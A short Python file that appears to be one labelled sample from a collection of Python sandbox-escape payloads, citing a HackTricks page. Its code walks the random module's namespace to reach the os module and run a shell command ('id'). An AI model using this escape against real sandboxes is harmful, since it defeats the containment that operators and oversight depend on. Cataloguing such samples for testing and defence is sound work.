# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# Family: vars-dir
# What: dir() to discover helpers, then pulls os out of a module namespace
import random
for name in dir(random):
    if name.endswith("os") and hasattr(vars(random)[name], "system"):
        vars(random)[name].system("id")
